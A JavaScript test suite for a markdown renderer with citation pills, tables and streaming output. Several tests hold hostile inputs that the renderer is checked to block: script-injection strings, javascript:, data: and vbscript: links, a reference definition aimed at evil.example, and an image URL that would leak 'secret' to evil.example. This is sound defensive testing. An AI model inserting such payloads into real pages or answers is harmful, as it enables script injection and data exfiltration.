import assert from "node:assert/strict";
import { test } from "node:test";
import { openPage } from "./dom.mjs";

openPage();
const { renderInto } = await import("../../static/theme/js/markdown.js");

const sources = { 1: { url: "/documents/a/?page=7", label: "Source 1: Guide, p. 7" } };
const cite = (number) => sources[number] ?? null;

function render(text, options = {}) {
  const element = document.createElement("div");
  renderInto(element, text, { cite, ...options });
  return element;
}

test("HTML in an answer is shown as text", () => {
  const element = render('<img src=x onerror="alert(1)"><script>alert(1)</script> **bold**');
  assert.equal(element.querySelector("img, script"), null);
  assert.match(element.textContent, /<script>/);
  assert.equal(element.querySelector("strong").textContent, "bold");
});

test("a link may not run a script", () => {
  for (const url of ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example"]) {
    const link = render(`[click](${url})`).querySelector("a");
    assert.ok(!link?.hasAttribute("href"), url);
  }
});

test("a link outside is cut off from our page", () => {
  const link = render("[site](https://example.org/a)").querySelector("a");
  assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
});

test("an image is never fetched", () => {
  assert.equal(render("![x](https://evil.example/?q=secret)").querySelector("img"), null);
});

test("a marker becomes a pill that stands close to its word", () => {
  const pill = render("Half each [1].").querySelector("a.cite");
  assert.equal(pill.getAttribute("href"), "/documents/a/?page=7");
  assert.equal(pill.getAttribute("aria-label"), "Source 1: Guide, p. 7");
  assert.equal(pill.previousSibling.textContent, "Half each");
  assert.equal(pill.nextSibling.textContent, ".");
});

test("a marker without a source leaves no trace", () => {
  assert.equal(render("Half each [9].").textContent.trim(), "Half each.");
});

test("a definition cannot turn markers into somebody's links", () => {
  const element = render("Half [1]\n\n[1]: https://evil.example");
  assert.equal(element.querySelector('a[href*="evil"]'), null);
  assert.ok(element.querySelector("a.cite"));
});

test("markers in code stay code", () => {
  assert.equal(render("`a[1]`").querySelector(".cite"), null);
});

test("a table scrolls in a region of its own and aligns without a style attribute", () => {
  const element = render("| a | b |\n|---|--:|\n| 1 | 2 |");
  const region = element.querySelector("div.table-scroll");
  assert.equal(region.getAttribute("tabindex"), "0");
  assert.equal(region.querySelectorAll("td")[1].className, "text-right");
  assert.equal(element.querySelector("[style]"), null);
});

test("code has a copy button", () => {
  const element = render("```\nx < y\n```");
  assert.equal(element.querySelector(".code-block code").textContent, "x < y\n");
  assert.equal(element.querySelector("[data-copy-code]").textContent, "Copy");
});

test("headings begin below the page's own", () => {
  assert.ok(render("# Title").querySelector("h4"));
});

test("only the growing block is replaced while text streams", () => {
  const element = document.createElement("div");
  renderInto(element, "First.\n\nSec", { cite, streaming: true });
  const [first] = element.children;
  renderInto(element, "First.\n\nSecond [1]", { cite, streaming: true });
  assert.equal(element.children[0], first);
  assert.equal(element.children[1].textContent, "Second1");
  assert.equal(element.querySelectorAll(".caret").length, 1);
  renderInto(element, "First.\n\nSecond [1]", { cite });
  assert.equal(element.querySelector(".caret"), null);
  assert.equal(element.children.length, 2);
});

test("every prefix of an answer ends up as the whole does", () => {
  const text = "# T\n\nA **b** [1]\n\n- x\n- y\n\n| a |\n|---|\n| 1 |\n\n```\nc\n```\n\n1. z";
  const element = document.createElement("div");
  for (let end = 0; end <= text.length; end += 1) renderInto(element, text.slice(0, end), { cite });
  assert.equal(element.innerHTML, render(text).innerHTML);
});

test("what the server rendered is replaced by what streams", () => {
  const element = document.createElement("div");
  element.innerHTML = "<p>old</p><p>older</p>";
  renderInto(element, "new", { cite });
  assert.equal(element.textContent, "new");
});
